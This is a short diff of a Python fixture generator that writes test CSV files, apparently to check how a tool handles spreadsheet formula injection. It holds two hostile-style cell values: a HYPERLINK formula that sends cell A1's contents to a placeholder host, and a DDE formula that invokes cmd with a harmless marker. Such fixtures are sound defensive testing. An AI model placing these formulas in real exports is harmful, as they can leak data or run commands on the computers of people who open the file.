@@ -261,5 +261,6 @@ def _cells() -> Iterator[tuple[str, bytes]]:
     yield "datasets/chat.twin.jsonl", _lines(chat, chat)
     link = b'=HYPERLINK("https://example.invalid/"&A1)'
     program = b"=cmd|' /C weighbridge-marker'!A0"
-    yield "datasets/formula.csv", b"text,n\n" + link + b",1\n" + program + b",2\n"
+    yield "datasets/formula.csv", b"text,n\n" + link + b",1\n" + b"plain,2\n"
+    yield "datasets/formula-starts.csv", b"text,n\nplain,1\n" + program + b",2\n"
     yield "datasets/plain.twin.csv", 'text,n\n"a, b",1\n-3,2\nüber,3\n'.encode()
